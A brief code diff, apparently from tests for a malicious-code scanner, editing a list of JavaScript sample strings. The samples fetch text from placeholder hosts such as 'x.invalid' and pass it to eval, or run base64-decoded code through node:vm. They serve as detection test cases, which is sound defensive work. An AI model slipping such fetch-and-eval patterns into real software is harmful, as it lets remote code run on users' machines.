@@ -37,7 +37,7 @@ def look(**files: str) -> list[Finding]:
         "import('node:vm').then((vm) => vm.runInThisContext(atob('MQ==')))",
         (
             "fetch('https://x.invalid').then((r) => r.text()).then(eval.bind(null)); "
-            "fetch('y').then(async (r) => eval(await r.text()))"
+            "fetch('https://y.invalid').then(async (r) => eval(await r.text()))"
         ),
         (
             "require('https').get('https://x.invalid', (r) => { let b = ''; r.on('data', (c) "
